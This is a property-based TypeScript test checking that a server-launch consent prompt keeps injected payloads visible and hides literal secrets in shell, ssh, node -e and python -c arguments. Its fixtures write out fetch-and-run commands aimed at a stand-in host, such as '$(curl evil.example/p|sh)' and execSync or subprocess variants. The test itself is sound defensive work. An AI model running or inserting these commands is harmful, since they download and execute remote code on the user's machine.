// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns, propertyTimeout } from "../../../../test-support/properties.js";
import { shownServerArgs, withoutServerArgSecrets } from "./spec.js";

// The consent question's invariants over generated servers: what it shows for a stdio server's
// `args` (a shell's own command, a program's text, ssh's remote words) keeps every run-time payload
// in sight as often as it is written, and never a literal secret. Every review of spec's readers
// so far found a leak or a hidden payload here first; this guards the class, not one line.

const SECRETS = ["hunter2SECRET9", "Tr0ub4dorQx7", "tok9qZx81"] as const;
const PAYLOAD = "$(curl evil.example/p|sh)";
const TICKS = "`curl evil.example/p|sh`";
const CALL = "require('child_process').execSync('curl evil.example/p|sh')";

/** The text the consent question shows for a server started as `command args…`. */
const consent = (command: string, args: readonly string[]) =>
  shownServerArgs(args, command, withoutServerArgSecrets(command, args))
    .map((word) => word.text)
    .join(" ");

const occurrences = (text: string, part: string) => text.split(part).length - 1;

function expectConsent(command: string, args: readonly string[], payloads: readonly string[]): void {
  const shown = consent(command, args);
  const written = args.join(" ");
  for (const payload of payloads) expect(occurrences(shown, payload)).toBe(occurrences(written, payload));
  for (const secret of SECRETS) expect(shown).not.toContain(secret);
}

const secret = fc.constantFrom(...SECRETS);

/** A value mixing a literal secret with a payload or a variable, bare or in "…". */
const value = fc
  .tuple(
    secret,
    fc.constantFrom(PAYLOAD, TICKS, "${X}", "$1"),
    fc.boolean(),
    fc.constantFrom("bare", "double", "single"),
  )
  .map(([s, part, first, quoting]) => {
    // In "single", the secret alone is in '…', beside the run-time part (`${X}'hunter2SECRET9'`).
    const lit = quoting === "single" ? `'${s}'` : s;
    const text = first ? `${lit}${part}` : `${part}${lit}`;
    return quoting === "double" ? `"${text}"` : text;
  });

/** A word of a shell command: a telling flag or NAME= with a mixed value, or a plain word. */
const word = fc.oneof(
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.constantFrom("--token ", "--api-key=", "--password ", "TOKEN=", "DB_PASSWORD="), value)
      .map(([lead, v]) => lead + v),
  },
  { weight: 1, arbitrary: fc.constantFrom("run", "-v", ";", "&&", "--port 8080", PAYLOAD) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(secret, fc.constantFrom("$(a --password @)", "$(a $(b --token @))", "`b --api-key @`"))
      .map(([s, shape]) => shape.replace("@", s)),
  },
);

const shellLine = fc
  .tuple(fc.constantFrom("srv", "node srv.js", "npx -y pkg"), fc.array(word, { minLength: 1, maxLength: 4 }))
  .map(([program, rest]) => [program, ...rest].join(" "));

describe("the consent question's invariants on generated servers", {
  timeout: propertyTimeout(60_000),
}, () => {
  it("a shell's own command (sh -c, bash -lc) mixing literal secrets and payloads", () => {
    fc.assert(
      fc.property(fc.constantFrom(["sh", "-c"], ["bash", "-lc"]), shellLine, ([shell, flag], line) =>
        expectConsent(shell as string, [flag as string, line], [PAYLOAD, TICKS]),
      ),
      propertyRuns(200),
    );
  });

  it("ssh's remote command given as words", () => {
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), (words) => {
        const remote = ["srv", ...words.flatMap((w) => w.split(" "))];
        expectConsent("ssh", ["host.example", ...remote], [PAYLOAD, TICKS]);
      }),
      propertyRuns(200),
    );
  });

  it("a program's env expression in node -e and python -c text", () => {
    fc.assert(
      fc.property(
        secret,
        fc.constantFrom("+", " + ", "+\n"),
        fc.constantFrom("", "x=1; ", "x=1\n"),
        fc.boolean(),
        (s, join, before, callFirst) => {
          const parts = callFirst ? [CALL, `'${s}'`] : [`'${s}'`, CALL];
          const program = `${before}process.env.TOKEN=${parts.join(join)}; run()`;
          expectConsent("node", ["-e", program], [CALL]);
          const PY_CALL = "subprocess.check_output('curl evil.example/p|sh', shell=True).decode()";
          const pyParts = callFirst ? [PY_CALL, `'${s}'`] : [`'${s}'`, PY_CALL];
          const py = `import os${before === "" ? "; " : "\n"}os.environ['TOKEN']=${pyParts.join(join.replace("\n", "\\\n"))}; run()`;
          expectConsent("python3", ["-c", py], [PY_CALL]);
        },
      ),
      propertyRuns(200),
    );
  });
});
